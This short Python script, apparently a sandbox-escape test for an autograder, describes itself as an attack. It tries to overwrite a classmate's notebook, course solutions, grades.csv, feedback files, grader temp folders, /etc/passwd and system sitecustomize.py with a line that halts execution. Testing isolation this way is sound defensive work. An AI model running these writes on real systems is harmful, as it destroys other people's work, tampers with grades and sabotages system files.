# Attack: write into everything a grader might read later: a classmate's notebook, the
# course folder, OUT, the grader's temporary folders; plant modules others would import.
import glob
import os
import sqlite3

TARGETS = ["{SUBMITTED}/victim/assignment1/assignment1.ipynb", "{COURSE}/sitecustomize.py",
           "{COURSE}/autograder/__init__.py", "{COURSE}/solutions/assignment1/assignment1.ipynb",
           "{OUT}/grades.csv", "{OUT}/feedback/victim/assignment1/assignment1.html",
           "/usr/lib/python3.11/sitecustomize.py", "/home/../etc/passwd"]
TARGETS += glob.glob("/tmp/autograder-*/*") + glob.glob("/tmp/autograder-*/*/*")
for target in TARGETS:
    try:
        with open(target, "w") as f:
            f.write("raise SystemExit('planted')\n")
        print("WROTE", target)
    except OSError as error:
        print("could not write", target, type(error).__name__)
try:
    sqlite3.connect("{COURSE}/stolen.db").execute("create table t (x)")
    print("WROTE {COURSE}/stolen.db")
except sqlite3.Error as error:
    print("could not create a database", error)
